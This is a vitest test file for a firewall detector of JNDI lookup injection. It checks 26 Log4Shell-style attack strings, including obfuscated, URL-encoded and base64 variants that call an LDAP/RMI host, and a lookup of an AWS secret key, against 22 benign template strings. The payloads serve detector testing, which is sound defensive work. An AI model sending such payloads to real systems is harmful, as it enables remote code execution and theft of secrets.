import { expect, test } from 'vitest'
import { jndi, jndiNeeds } from '../../../lib/waf/detect/jndi.ts'
import { detectorTable } from './detector-table.ts'

detectorTable('jndi', [26, 22], {
  detector: jndi,
  needs: jndiNeeds,
  attacks: [
    '${jndi:ldap://203.0.113.9/a}',
    '${JNDI:LDAP://203.0.113.9/a}',
    'Mozilla/5.0 ${jndi:rmi://203.0.113.9:1099/x} rest',
    '${jndi:dns://x.example.com}',
    '${jndi:ldap://203.0.113.9/a',
    '${${lower:j}ndi:ldap://203.0.113.9/a}',
    '${${lower:${lower:jndi}}:ldap://203.0.113.9/a}',
    '${${upper:j}${lower:n}di:ldap://203.0.113.9/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}',
    '${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://203.0.113.9/a}',
    '${${env:A:-${env:B:-j}}ndi:ldap://203.0.113.9/a}',
    '${j${::-n}di:ldap://203.0.113.9/a}',
    "${jn${date:'d'}i:ldap://203.0.113.9/a}",
    '${jndi${sys:x:-:}ldap://203.0.113.9/a}',
    '${${what:ever:-jndi}:ldap://203.0.113.9/a}',
    '${${k8s:x:-j}${k8s:y:-ndi}:rmi://203.0.113.9/a}',
    '%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D',
    '%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D',
    '\\u0024\\u007bjndi:ldap://203.0.113.9/a\\u007d',
    '&#36;&#123;jndi:ldap://203.0.113.9/a}',
    'JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ==',
    '${ jndi:ldap://203.0.113.9/a}',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${sys:user.name}',
    '${java:version}',
    `${'${a:-'.repeat(40)}x${'}'.repeat(40)}`,
  ],
  benign: [
    '${name}',
    'Hello ${user.name}, you have ${count} messages',
    '${HOME}/bin:${PATH}',
    '${VAR:-default}',
    '${1:-x}',
    'cd ${DIR:-/tmp} && make',
    '`${a}:${b}`',
    'jndi:ldap is a scheme',
    'How does ${} work in JavaScript?',
    '${{ secrets.TOKEN }}',
    '${project.version}',
    '${foo:bar}',
    'url: ${self:custom.stage}',
    'key: ${env:API_KEY} in serverless.yml',
    'price ${amount} {currency}',
    '$100 {discount}',
    '${spring.datasource.url:jdbc:h2:mem}',
    '${a}${b}${c}${d}${e}',
    'template literal `${x + `${y}`}`',
    '${lower(name)}',
    'java.naming.factory.initial {jndi}',
    '$ {jndi}',
  ],
})

test('deep nesting is bounded, and what hides behind the bound is refused', () => {
  expect(jndi('${'.repeat(500_000))).toMatchObject({ context: 'nested lookups', confidence: 0.9 })
})
